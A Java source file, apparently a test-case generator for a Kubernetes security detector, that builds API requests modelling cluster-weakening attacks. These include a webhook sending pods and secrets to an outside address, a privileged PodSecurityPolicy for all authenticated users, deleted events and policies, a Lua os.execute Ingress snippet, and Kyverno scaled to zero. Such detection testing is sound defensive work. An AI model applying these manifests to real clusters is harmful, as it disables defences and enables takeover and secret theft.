package dev.crowsnest.evasion;

import static dev.crowsnest.evasion.PodAttacks.pick;
import static dev.crowsnest.evasion.Request.json;

import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.List;
import java.util.Random;

/** What weakens the cluster's defences and opens it. */
final class ClusterAttacks {
  private static final String ENFORCE = "pod-security.kubernetes.io/enforce";

  private ClusterAttacks() {}

  static List<Attack> all() {
    return List.of(
        new Attack("webhook to an outside address", ClusterAttacks::webhook),
        new Attack("webhook deleted", ClusterAttacks::webhookDeleted),
        new Attack("Pod Security label lowered", ClusterAttacks::label),
        new Attack("events deleted", ClusterAttacks::eventsDeleted),
        new Attack("admission policy weakened", ClusterAttacks::policy),
        new Attack("privileged PodSecurityPolicy for everybody", r -> psp()),
        new Attack("dashboard exposed", r -> dashboard()),
        new Attack("ConfigMap of the control plane changed", ClusterAttacks::configMap),
        new Attack("snippet in an Ingress", ClusterAttacks::ingress),
        new Attack("security tool scaled to nothing", ClusterAttacks::scaledToNothing),
        new Attack("API server's log level set", r -> logLevel()));
  }

  private static Request webhook(Random random) {
    Resource resource =
        random.nextBoolean() ? Resource.MUTATING_WEBHOOKS : Resource.VALIDATING_WEBHOOKS;
    ObjectNode webhook =
        json(
            """
            {'metadata': {'name': 'inject'}, 'webhooks': [{'name': 'inject.example.com',
              'clientConfig': {'url': 'https://203.0.113.66/mutate'}, 'sideEffects': 'None',
              'admissionReviewVersions': ['v1'], 'failurePolicy': 'Ignore',
              'rules': [{'apiGroups': [''], 'apiVersions': ['v1'], 'operations': ['CREATE'],
                'resources': ['pods', 'secrets']}]}]}
            """);
    ObjectNode before = webhook.deepCopy();
    Patches.set(
        before,
        "/webhooks/0/clientConfig",
        json("{'service': {'namespace': 'inject', 'name': 'inject'}}"));
    return Request.write("webhook", "create", resource, webhook)
        .essence("/webhooks/0/clientConfig")
        .existing(before);
  }

  private static Request webhookDeleted(Random random) {
    Request made = webhook(random);
    Request request =
        new Request("deleted", pick(List.of("delete", "deletecollection"), random), made.resource);
    return request
        .at("", request.verb.equals("delete") ? "inject" : "")
        .after(
            Request.write("made", "create", made.resource, made.existing)
                .user("kubernetes-admin", "kubeadm:cluster-admins", "system:authenticated"));
  }

  private static Request label(Random random) {
    ObjectNode namespace = json("{'metadata': {'name': 'shop'}}");
    namespace.withObject("/metadata/labels").put("team", "a").put(ENFORCE, "restricted");
    ObjectNode before = namespace.deepCopy();
    boolean isRemoved = random.nextBoolean();
    if (isRemoved) {
      namespace.withObject("/metadata/labels").remove(ENFORCE);
    } else {
      namespace.withObject("/metadata/labels").put(ENFORCE, "privileged");
    }
    Request request = Request.write("label", "update", Resource.NAMESPACES, namespace);
    request.namespace = "shop";
    return request
        .essence(isRemoved ? "/metadata/labels" : "/metadata/labels/" + ENFORCE.replace("/", "~1"))
        .existing(before);
  }

  private static Request eventsDeleted(Random random) {
    Request request =
        new Request("events", pick(List.of("delete", "deletecollection"), random), Resource.EVENTS);
    return request.at("shop", request.verb.equals("delete") ? "web.17f" : "");
  }

  private static Request policy(Random random) {
    if (random.nextInt(4) == 0) {
      return new Request("policy", "delete", Resource.POLICY_BINDINGS).at("", "no-privileged");
    }
    if (random.nextBoolean()) {
      ObjectNode binding =
          json(
              """
              {'metadata': {'name': 'no-privileged'}, 'spec': {'policyName': 'no-privileged',
                'validationActions': ['Audit']}}
              """);
      ObjectNode before = binding.deepCopy();
      before.withObject("/spec").putArray("validationActions").add("Deny");
      return Request.write("policy", "update", Resource.POLICY_BINDINGS, binding)
          .essence("/spec/validationActions")
          .existing(before);
    }
    ObjectNode policy =
        json(
            """
            {'metadata': {'name': 'no-privileged'}, 'spec': {'failurePolicy': 'Fail',
              'matchConstraints': {'resourceRules': [{'apiGroups': [''], 'apiVersions': ['v1'],
                'operations': ['CREATE'], 'resources': ['pods']}]},
              'validations': [{'expression': 'true'}]}}
            """);
    ObjectNode before = policy.deepCopy();
    before
        .withObject("/spec")
        .putArray("validations")
        .add(json("{'expression': 'object.spec.hostPID != true'}"));
    return Request.write("policy", "update", Resource.POLICIES, policy)
        .essence("/spec/validations")
        .existing(before);
  }

  private static Request psp() {
    ObjectNode role = json("{'metadata': {'name': 'psp'}}");
    role.putArray("rules")
        .add(
            json(
                """
                {'apiGroups': ['policy'], 'resources': ['podsecuritypolicies'],
                 'resourceNames': ['open'], 'verbs': ['use']}
                """));
    ObjectNode policy =
        json(
            """
            {'metadata': {'name': 'open'}, 'spec': {'privileged': true, 'hostPID': true,
              'hostNetwork': true, 'volumes': ['*'], 'allowedCapabilities': ['*'],
              'allowPrivilegeEscalation': true, 'runAsUser': {'rule': 'RunAsAny'},
              'seLinux': {'rule': 'RunAsAny'}, 'fsGroup': {'rule': 'RunAsAny'},
              'supplementalGroups': {'rule': 'RunAsAny'}}}
            """);
    ObjectNode before =
        json(
            """
            {'metadata': {'name': 'psp'}, 'roleRef': {'apiGroup': 'rbac.authorization.k8s.io',
              'kind': 'ClusterRole', 'name': 'psp'},
             'subjects': [{'kind': 'User', 'apiGroup': 'rbac.authorization.k8s.io', 'name': 'a'}]}
            """);
    ObjectNode binding = before.deepCopy();
    Patches.set(
        binding,
        "/subjects/0",
        json(
            """
            {'kind': 'Group', 'apiGroup': 'rbac.authorization.k8s.io',
             'name': 'system:authenticated'}
            """));
    return Request.write("opened", "create", Resource.CLUSTER_BINDINGS, binding)
        .essence("/subjects")
        .existing(before)
        .after(
            Request.write("psp", "create", Resource.POD_SECURITY_POLICIES, policy),
            Request.write("use", "create", Resource.CLUSTER_ROLES, role));
  }

  private static Request dashboard() {
    ObjectNode service =
        json(
            """
            {'metadata': {'name': 'kubernetes-dashboard', 'namespace': 'tools'},
             'spec': {'selector': {'k8s-app': 'kubernetes-dashboard'}, 'type': 'LoadBalancer',
              'ports': [{'port': 443, 'targetPort': 8443}]}}
            """);
    ObjectNode before = service.deepCopy();
    before.withObject("/spec").put("type", "ClusterIP");
    return Request.write("service", "create", Resource.SERVICES, service)
        .essence("/spec/type")
        .existing(before);
  }

  private static Request configMap(Random random) {
    String name =
        pick(List.of("aws-auth", "coredns", "extension-apiserver-authentication"), random);
    ObjectNode map = json("{'data': {'mapRoles': 'x', 'Corefile': 'y'}}");
    map.putObject("metadata").put("namespace", "kube-system").put("name", name);
    ObjectNode before = map.deepCopy();
    before.withObject("/data").put("mapRoles", "a");
    return Request.write("map", "update", Resource.CONFIG_MAPS, map)
        .essence("/data")
        .existing(before);
  }

  private static Request ingress(Random random) {
    String key =
        "nginx.ingress.kubernetes.io/"
            + pick(List.of("configuration-snippet", "server-snippet", "auth-snippet"), random);
    ObjectNode ingress =
        json(
            """
            {'metadata': {'name': 'web', 'namespace': 'shop', 'annotations': {'a': 'b'}},
             'spec': {'tls': [{'hosts': ['x.example.com'], 'secretName': 's'}],
              'defaultBackend': {'service': {'name': 'web', 'port': {'number': 80}}}}}
            """);
    ObjectNode before = ingress.deepCopy();
    ingress.withObject("/metadata/annotations").put(key, "content_by_lua 'os.execute(1)';");
    return Request.write("ingress", "create", Resource.INGRESSES, ingress)
        .essence("/metadata/annotations/" + key.replace("/", "~1"))
        .existing(before);
  }

  private static Request scaledToNothing(Random random) {
    ObjectNode scale =
        json("{'metadata': {'name': 'kyverno-admission-controller', 'namespace': 'kyverno'}}");
    scale.putObject("spec").put("replicas", 0);
    ObjectNode before = scale.deepCopy();
    before.withObject("/spec").put("replicas", 2);
    boolean isScale = random.nextBoolean();
    Request request = Request.write("scale", "update", Resource.DEPLOYMENTS, scale);
    request.essence("/spec/replicas").existing(before);
    if (isScale) {
      request.on("scale");
      scale.put("apiVersion", "autoscaling/v1").put("kind", "Scale");
    }
    if (isScale && random.nextBoolean()) {
      // Nothing is what the server writes of zero.
      scale.putObject("spec");
      request.essence.set(0, "/spec");
    }
    return request;
  }

  private static Request logLevel() {
    Request request = new Request("flags", "put", null);
    request.path = "/debug/flags/v";
    return request;
  }
}
